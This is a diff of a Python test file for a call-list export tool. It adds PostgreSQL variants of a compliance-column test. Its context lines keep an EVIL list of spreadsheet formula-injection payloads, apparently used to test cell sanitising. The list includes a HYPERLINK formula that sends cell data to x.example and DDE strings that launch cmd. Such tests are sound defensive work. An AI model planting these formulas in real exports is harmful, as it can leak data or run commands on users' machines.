@@ -22,6 +22,7 @@ from dialer.voc import write_csv as write_voc_csv
 from lists import ListsError, load_mapping
 from lists.csvsafe import safe_cell
 from tests.lists_util import AS_OF, CANONICAL, REPO, build, customer, line, order, read_csv, write_export
+from tests.pgserver import pg_server, pg_url  # noqa: F401  (fixtures)
 from tests.test_reports import NOW, build_store
 
 EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
@@ -157,6 +158,17 @@ def _nightly(d: Path, tel_col: str = "tel_ok", phone_col: str = "phone") -> Path
 
 def test_renamed_compliance_column_refuses_the_build(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    _renamed_column(db_url, tmp_path, monkeypatch, capsys)
+
+
+def test_renamed_compliance_column_refuses_postgresql(pg_url: str, tmp_path: Path,  # noqa: F811
+                                                      monkeypatch: pytest.MonkeyPatch,
+                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    _renamed_column(pg_url, tmp_path, monkeypatch, capsys)
+
+
+def _renamed_column(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                    capsys: pytest.CaptureFixture[str]) -> None:
     monkeypatch.setenv("DIALER_DATABASE_URL", db_url)
     assert _cli(_nightly(tmp_path / "n1"), tmp_path / "o1") == 0
     before = _store(db_url)
